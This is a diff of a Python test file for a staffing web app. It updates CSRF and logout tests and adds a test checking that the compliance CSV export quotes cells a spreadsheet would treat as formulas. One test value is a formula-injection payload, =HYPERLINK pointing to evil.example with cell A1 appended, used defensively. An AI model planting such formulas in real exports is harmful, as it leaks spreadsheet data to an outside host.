@@ -3,6 +3,8 @@ the language switch, and HR's compliance report with its CSV tables."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from datetime import timedelta
 
@@ -51,17 +53,17 @@ def test_pages_need_a_session_and_the_right_role(client: TestClient, make: Facto
 
 def test_the_cookie_authenticates_the_api_and_changes_need_the_csrf_header(client: TestClient, make: Factory) -> None:
     nurse = make.actor()
-    log_in(client, nurse.token)
+    web = log_in(client, nurse.token)
     assert client.get("/api/v1/people/me").json()["id"] == str(nurse.id)
     forged = client.post("/api/v1/people/me/dnd", json={"minutes": 15})
     assert forged.status_code == 403
     assert CSRF_HEADER in forged.json()["message"]
     wrong = client.post("/api/v1/people/me/dnd", json={"minutes": 15}, headers={CSRF_HEADER: "0" * 64})
     assert wrong.status_code == 403
-    ok = client.post("/api/v1/people/me/dnd", json={"minutes": 15}, headers={CSRF_HEADER: csrf_token(nurse.token)})
+    ok = client.post("/api/v1/people/me/dnd", json={"minutes": 15}, headers={CSRF_HEADER: csrf_token(web)})
     assert ok.status_code == 201, ok.text
     # The page carries the token the script sends back.
-    assert csrf_token(nurse.token) in client.get("/me").text
+    assert csrf_token(web) in client.get("/me").text
     # A bearer token needs no CSRF header: no browser sends it on its own.
     client.cookies.clear()
     assert client.post("/api/v1/people/me/dnd/end", headers=nurse.headers).status_code == 200
@@ -69,9 +71,9 @@ def test_the_cookie_authenticates_the_api_and_changes_need_the_csrf_header(clien
 
 def test_logout_needs_the_csrf_token_and_clears_the_cookie(client: TestClient, make: Factory) -> None:
     nurse = make.actor()
-    log_in(client, nurse.token)
+    web = log_in(client, nurse.token)
     assert client.post("/logout", data={"csrf": "x"}, follow_redirects=False).status_code == 403
-    r = client.post("/logout", data={"csrf": csrf_token(nurse.token)}, follow_redirects=False)
+    r = client.post("/logout", data={"csrf": csrf_token(web)}, follow_redirects=False)
     assert r.status_code == 303 and r.headers["location"] == "/login"
     assert SESSION_COOKIE not in client.cookies
     assert client.get("/api/v1/people/me").status_code == 401
@@ -188,6 +190,27 @@ def test_compliance_report_and_csv(
     assert added.status_code == 201
     changes = client.get("/api/v1/reports/compliance", headers=hr.headers).json()["policy_changes"]
     assert [(c["policy"], c["version"]) for c in changes] == [("Akutvård", 1)]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
+    client: TestClient, make: Factory, clock: ManualClock
+) -> None:
+    """A policy named "=HYPERLINK(...)" must not become a live formula in HR's spreadsheet."""
+    hr = make.actor(roles=["hr"])
+    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Öppna")', "+1+1", "-2+3", "@SUM(A1)", "Akut"]
+    for n, name in enumerate(hostile):
+        added = client.post(
+            "/api/v1/policies",
+            json={"name": name, "effective_from": clock.now().isoformat(), "approval_note": f"-{n}"},
+            headers=hr.headers,
+        )
+        assert added.status_code == 201, added.text
+    table = client.get("/api/v1/reports/compliance/policy-changes.csv", headers=hr.headers).text
+    rows = list(csv.reader(io.StringIO(table)))[1:]
+    names = sorted(row[0] for row in rows)
+    assert names == sorted(["'" + name for name in hostile[:-1]] + ["Akut"])
+    assert all(row[4].startswith("'-") for row in rows), "approval notes too"
+    assert all(row[1].isdigit() for row in rows), "numbers stay numbers"
 
 
 def test_a_login_form_posted_from_elsewhere_is_refused(client: TestClient, make: Factory) -> None:
